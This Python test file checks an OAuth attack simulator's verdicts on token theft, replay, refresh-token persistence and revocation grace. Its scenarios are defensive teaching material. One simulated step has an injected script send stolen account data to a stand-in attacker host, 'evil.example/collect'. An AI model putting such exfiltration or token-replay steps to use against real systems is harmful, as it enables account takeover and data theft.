"""What an attacker has got: wherever it shows in the run, whosever credential it was, and whatever carried it to her."""

from __future__ import annotations

import pytest

from sandbox.engine import goals, simulation
from sandbox.engine.case import Case
from sandbox.engine.player import play
from sandbox.engine.result import Verdict
from sandbox.language.loader import loads
from sandbox.protocol.settings import Settings

HEAD = """
title: A test
story: Something happens.
lesson: Something is learned.
refs: [RFC 6749 §1]
difficulty: beginner
attacker: {is: a thief}
setting: {profile: PROFILE, switches: {SWITCHES}}
steps:
"""
OPEN = "client.code_flow: on"
ALICE = "  - {id: login, do: app.sign_in, with: {browser: laptop, scope: read}, say: Alice signs in.}\n"
THEFT = "  - {id: theft, do: mallory.read, with: {storage: app, browser: laptop}, say: She reads the storage.}\n"
USE = "  - {id: use, do: mallory.call_api, with: {api: accounts, path: /accounts, token: $theft.access_token}, say: She uses the token.}\n"
MINUTE = "  - {id: later, do: clock.wait, with: {seconds: 60}, say: A minute passes.}\n"
READ = 'goal: [{read: "alice:account-1", at: STEP}]\n'


def scenario(steps: str, goal: str, profile: str = "oauth-basic", switches: str = OPEN, more: str = ""):
    return loads(HEAD.replace("PROFILE", profile).replace("SWITCHES", switches) + steps + goal + more, "test.yaml")


def verdict(steps: str, goal: str, profile: str = "oauth-basic", switches: str = OPEN, more: str = "") -> Verdict:
    return simulation.run(scenario(steps, goal, profile, switches, more)).verdict


# ---------------------------------------------------------------- wherever it shows


@pytest.mark.slow
def test_harm_at_another_step_than_the_goals_is_never_blocked():
    refused = "  - {id: late, do: mallory.call_api, with: {api: accounts, path: /nothing, token: $theft.access_token}, say: She asks.}\n"
    found = verdict(ALICE + THEFT + USE + refused, READ.replace("STEP", "late"))
    assert (found.word, found.predicates[0].reached) == ("succeeded", False)
    assert "at the step “use”" in found.sentence


def test_harm_elsewhere_that_soon_ends_is_limited_and_says_for_how_long():
    hour = "  - {id: hour, do: clock.wait, with: {seconds: 3600}, say: An hour passes.}\n"
    late = USE.replace("id: use", "id: late")
    implicit = "as.short_ttl: on"  # this grant yields no refresh token
    found = verdict(ALICE + THEFT + USE + hour + late, READ.replace("STEP", "late"), switches=implicit)
    assert (found.word, found.exposure) == ("limited", 299)
    assert "for 299 seconds" in found.sentence


def test_a_copied_refresh_token_prolongs_what_is_measured():
    hour = "  - {id: hour, do: clock.wait, with: {seconds: 3600}, say: An hour passes.}\n"
    late = USE.replace("id: use", "id: late")
    found = verdict(ALICE + THEFT + USE + hour + late, READ.replace("STEP", "late"), switches=OPEN + ", as.short_ttl: on")
    assert found.word == "succeeded"
    assert found.exposure == 30 * 86400 - 1


def test_rotation_does_not_move_the_end_of_what_she_renews():
    hour = "  - {id: hour, do: clock.wait, with: {seconds: 3600}, say: An hour passes.}\n"
    late = USE.replace("id: use", "id: late")
    switches = OPEN + ", as.short_ttl: on, as.rt_rotation: rotate"
    found = verdict(ALICE + THEFT + USE + hour + late, READ.replace("STEP", "late"), switches=switches)
    assert 28 * 86400 < found.exposure < 30 * 86400 + 300


# ---------------------------------------------------------------- whatever carried it


def test_what_a_page_sends_to_a_host_of_hers_has_reached_her():
    steps = ALICE + (
        "  - {id: ride, do: mallory.act, with: {browser: laptop, in: app, headers: {X-CSRF: '1'},"
        " url: 'https://app.connectsphere.example/api/accounts/accounts'}, say: A script asks the backend.}\n"
        "  - {id: home, do: mallory.act, with: {browser: laptop, in: app, url: 'https://evil.example/collect',"
        " json: {data: $ride.json.accounts.0}}, say: It sends the answer home.}\n"
    )
    assert verdict(steps, READ.replace("STEP", "home"), "oauth-bcp", "client.bff: on").word == "succeeded"
    assert verdict(steps, READ.replace("STEP", "ride"), "oauth-bcp", "client.bff: on").word == "succeeded"
    until_home = steps.partition("  - {id: home")[0]
    assert verdict(until_home, READ.replace("STEP", "ride"), "oauth-bcp", "client.bff: on").word == "stalled"


def test_a_request_to_an_honest_host_is_no_theft():
    steps = "  - {id: say, do: laptop.send, with: {method: POST, url: 'https://budget.example/x', json: {a: 'alice:account-1'}}, say: It goes.}\n"
    assert verdict(steps, READ.replace("STEP", "say")).word != "succeeded"


# ---------------------------------------------------------------- whosever it was

KILL = "  - {id: kill, do: laptop.log_out, with: {client: app}, say: Alice logs out.}\n"
OWN = "  - {id: own, do: mobile.sign_in, with: {browser: mallory_browser, user: mallory, scope: read}, say: Mallory signs in.}\n"


@pytest.mark.slow
def test_late_counts_only_credentials_of_the_one_whose_access_was_ended():
    mine = "  - {id: use, do: mallory.call_api, with: {api: accounts, path: /accounts, token: $own.access_token}, say: She uses her own.}\n"
    late = "goal: [{late: kill, at: use}]\n"
    assert verdict(ALICE + OWN + KILL + MINUTE + mine, late).word == "stalled"
    assert verdict(ALICE + THEFT + KILL + MINUTE + USE, late).word == "succeeded"


@pytest.mark.slow
def test_the_grace_of_late_can_be_set():
    late = "goal: [{late: kill, at: use, grace: 120}]\n"
    first = USE.replace("id: use", "id: use")
    assert verdict(ALICE + THEFT + KILL + MINUTE + first, late).word == "stalled"
    assert verdict(ALICE + THEFT + KILL + MINUTE + first, late.replace("120", "30")).word == "succeeded"


def test_grace_without_late_is_refused():
    with pytest.raises(ValueError, match="`grace` belongs to `late`"):
        scenario(ALICE + THEFT + USE, 'goal: [{read: "alice:account-1", at: use, grace: 5}]\n')


def test_what_was_her_right_before_a_step_does_not_count():
    hire = "  - {id: hire, do: admin.set_user, with: {user: mallory, roles: [admin]}, say: She is an administrator.}\n"
    use = "  - {id: use, do: mallory.call_api, with: {api: accounts, path: /admin/export, token: $own.access_token}, say: She exports.}\n"
    fire = "  - {id: fire, do: admin.set_user, with: {user: mallory, roles: []}, say: Not any more.}\n"
    goal = 'goal: [{read: "alice:account-1", at: use, after: fire}]\n'
    assert verdict(hire + OWN + use + fire, goal).word != "succeeded"
    assert verdict(hire + OWN + fire + use, goal).word == "succeeded"


def test_a_session_is_seen_with_opaque_tokens_too():
    sign_in = "  - {id: login, do: app.sign_in, with: {browser: laptop, scope: read}, say: Somebody signs in.}\n"
    goal = "goal: [{session: {client: app, browser: laptop, user: alice}, at: login}]\n"
    opaque = OPEN + ", as.token_format: opaque, as.revocation: on, rs.introspect: live"
    run = simulation.run(scenario(sign_in, goal, switches=opaque))
    assert run.verdict.word == "succeeded"


# ---------------------------------------------------------------- who stopped her


def test_a_script_that_cannot_go_on_is_stalled_and_says_where():
    found = verdict(ALICE + THEFT + USE, READ.replace("STEP", "use"), "oauth-basic", OPEN + ", client.bff: on")
    assert found.word == "stalled"
    assert "`theft.access_token`" in found.sentence or "“theft”" in found.sentence


def test_nothing_learned_is_a_block_only_where_the_file_claims_the_defence():
    claim = "blocked_by: [{switches: {client.bff: on}, at: theft, answer: nothing learned, because: There is nothing.}]\n"
    base = scenario(ALICE + THEFT + USE, READ.replace("STEP", "use"), more=claim)
    assert simulation.run(base, base.settings.at_least({"client.bff": "on"})).verdict.word == "blocked"


def test_a_named_refusal_is_a_block():
    base = scenario(ALICE + THEFT + USE, READ.replace("STEP", "use"))
    bound = base.settings.at_least({"DPOP": "on"})
    found = simulation.run(base, bound).verdict
    assert (found.word, found.blocked_by.by, found.blocked_by.answer) == ("blocked", "accounts.key_binding", "401 invalid_token")


def test_broken_honest_flows_are_told_beside_the_word():
    base = scenario(ALICE + THEFT + USE, READ.replace("STEP", "use"))
    found = simulation.run(base, Settings.of("oauth-basic", dict(base.settings.changes) | {"transactions.check_aud": "on"})).verdict
    assert found.word == "succeeded"
    refusing = simulation.run(base, base.settings.at_least({"rs.check_typ": "on"})).verdict
    assert refusing.word == "breaks-service"
    assert refusing.broken


def test_owner_is_the_one_whose_access_was_ended():
    story = scenario(ALICE + THEFT + KILL + MINUTE + USE, "goal: [{late: kill, at: use}]\n")
    assert goals.owner(play(Case.of(story)), story.goal[0]) == "alice"
